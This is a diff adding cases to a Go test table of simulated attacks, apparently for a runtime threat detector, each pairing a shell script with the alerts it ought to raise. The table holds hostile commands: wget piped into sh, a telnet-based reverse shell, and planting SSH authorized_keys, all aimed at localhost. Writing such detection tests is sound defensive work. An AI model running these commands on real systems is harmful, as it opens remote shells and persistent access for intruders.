@@ -55,6 +55,7 @@ var attacks = []attack{
 	{name: "written by the entry point", script: `cp prog-a mine; ./mine; printf '#!/bin/sh\n./mine\n' >s; chmod +x s; ./s`},
 	{name: "downloaded into a shell", script: `sh -c 'wget -q -O- http://127.0.0.1:1/x.sh | sh' || true`, told: []string{"customRule"}, need: "wget",
 		msg: " runs what it downloads: sh -c wget -q -O- http://127.0.0.1:1/x.sh | sh"},
+	{name: "a shell between two connections", script: `sh -c 'telnet 127.0.0.1 1 | sh | telnet 127.0.0.1 2' 2>/dev/null || true`, told: []string{"customRule"}},
 	{name: "what was downloaded is a miner", script: `sh -c 'cat payload | sh'`, told: []string{"cryptoMinerProcess"}},
 	{name: "a download that is checked", script: `sh -c 'wget -q -O- http://127.0.0.1:1/x.tgz | sha256sum -c sums' || true`, need: "wget"},
 
@@ -86,6 +87,7 @@ var attacks = []attack{
 
 	// With a look at files.
 	{name: "a key to log in", script: `mkdir .ssh; echo ssh-ed25519 x >.ssh/authorized_keys`, told: []string{"sshAccess"}, flags: monitoring},
+	{name: "keys moved to where they count", script: `mkdir k; echo date >k/rc; mv k .ssh`, told: []string{"sshAccess"}, flags: monitoring},
 	{name: "files without a look", script: `mkdir .ssh; echo ssh-ed25519 x >.ssh/authorized_keys; ./prog-a`},
 	{name: "ordinary files", script: `mkdir d; echo x >d/a; mv d/a d/b; rm d/b; rmdir d; cp prog-a d; ./d`, flags: monitoring},
 }
